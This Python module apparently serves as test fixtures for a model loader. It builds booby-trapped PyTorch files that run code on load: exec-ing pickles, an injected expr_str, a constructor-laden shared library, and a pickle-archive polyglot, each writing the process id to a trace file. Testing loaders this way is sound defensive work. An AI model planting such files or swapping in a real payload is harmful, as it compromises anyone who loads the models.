"""Real files of PyTorch's that do harm when they are loaded: each writes its process's id into a file."""

import io
import json
import pickle
import shutil
import subprocess
import zipfile

import torch
from modelmesh.models.adapters.torch_export import export

MAGIC, PROTOCOL = 0x1950A86A20F9469CFC6C, 1001  # what stands before a tensor in torch.save()'s older format


class Runs:
    """Executes code when it is unpickled."""

    def __init__(self, code):
        self.code = code

    def __reduce__(self):
        return exec, (self.code,)


class Adds(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.layer = torch.nn.Linear(3, 4)
        self.constant = torch.arange(4.0)

    def forward(self, x):
        return self.layer(x) + self.constant


def harm(trace):
    return f"import os, pathlib; pathlib.Path({str(trace)!r}).write_text(str(os.getpid()))"


def program(path):
    torch.export.save(export(Adds().eval(), [[0.0, 1.0, 2.0], [1.0, 1.0, 1.0]]), str(path))
    return path


def rewritten(path, change, more=()):
    """Write an exported program with other bytes in some of its members; `change(name, bytes)` returns (name, bytes)."""
    good = program(path.with_suffix(".good.pt2"))
    with zipfile.ZipFile(good) as source, zipfile.ZipFile(path, "w") as target:
        for name in source.namelist():
            target.writestr(*change(name, source.read(name)))
        for name, data in more:
            target.writestr(f"{source.namelist()[0].split('/')[0]}/{name}", data)
    return path


def _as_pickles(data, folder):
    """Say in a program's list of tensors that the first of them is a pickle."""
    document = json.loads(data)
    next(iter(document["config"].values()))["use_pickle"] = True
    return json.dumps(document).encode()


def protocol_0_in_constants(path, trace):
    def change(name, data):
        if name.endswith("model_constants_config.json"):
            return name, _as_pickles(data, "constants")
        return name, (pickle.dumps(Runs(harm(trace)), 0) if name.endswith("constants/tensor_0") else data)

    return rewritten(path, change)


def second_pickle_in_a_member(path, trace):
    evil = pickle.dumps(MAGIC, 2) + pickle.dumps(PROTOCOL, 2) + pickle.dumps(Runs(harm(trace)), 2)

    def change(name, data):
        if name.endswith("model_weights_config.json"):
            return name, _as_pickles(data, "weights")
        return name, (evil if name.endswith("weights/weight_0") else data)

    return rewritten(path, change)


def expression_in_a_program(path, trace):
    evil = f"exec({harm(trace)!r})"

    def change(name, data):
        if not name.endswith("models/model.json"):
            return name, data

        def replaced(value):
            if isinstance(value, dict):
                return {key: evil if key == "expr_str" else replaced(each) for key, each in value.items()}
            return [replaced(each) for each in value] if isinstance(value, list) else value

        assert b"expr_str" in data
        return name, json.dumps(replaced(json.loads(data))).encode()

    return rewritten(path, change)


def native_library_in_an_archive(path, trace):
    """None where there is no compiler."""
    if shutil.which("cc") is None:
        return None
    source = path.with_suffix(".c")
    source.write_text(
        "#include <stdio.h>\n#include <unistd.h>\n"
        f'__attribute__((constructor)) void run(void) {{ FILE *f = fopen("{trace}", "w"); '
        'fprintf(f, "%d", (int)getpid()); fclose(f); }\n'
    )
    library = path.with_suffix(".so")
    subprocess.run(["cc", "-shared", "-fPIC", "-o", library, source], check=True)
    more = [
        ("data/aotinductor/model/model.wrapper.so", library.read_bytes()),
        ("data/aotinductor/model/model.wrapper_metadata.json", b'{"AOTI_DEVICE_KEY": "cpu"}'),
    ]
    return rewritten(path, lambda name, data: (name, data), more)


def script_that_writes_a_file(path, trace):
    trace.write_bytes(bytes(16))

    class Writes(torch.nn.Module):
        def __init__(self, name: str):
            super().__init__()
            self.name = name

        def forward(self, x):
            there = torch.from_file(self.name, shared=True, size=4, dtype=torch.float32)
            there += 7.0
            return x + there.sum()

    torch.jit.save(torch.jit.script(Writes(str(trace))), str(path))
    return path


def pickled_module(path, trace):
    torch.save(Runs(harm(trace)), path)
    return path


def pickle_before_an_archive(path, trace):
    """A pickle for one reader and an archive for the other."""
    archive = io.BytesIO(program(path.with_suffix(".good.pt2")).read_bytes())
    path.write_bytes(pickle.dumps(Runs(harm(trace))) + archive.getvalue())
    return path


ATTACKS = {
    attack.__name__: attack
    for attack in (
        protocol_0_in_constants,
        second_pickle_in_a_member,
        expression_in_a_program,
        native_library_in_an_archive,
        script_that_writes_a_file,
        pickled_module,
        pickle_before_an_archive,
    )
}
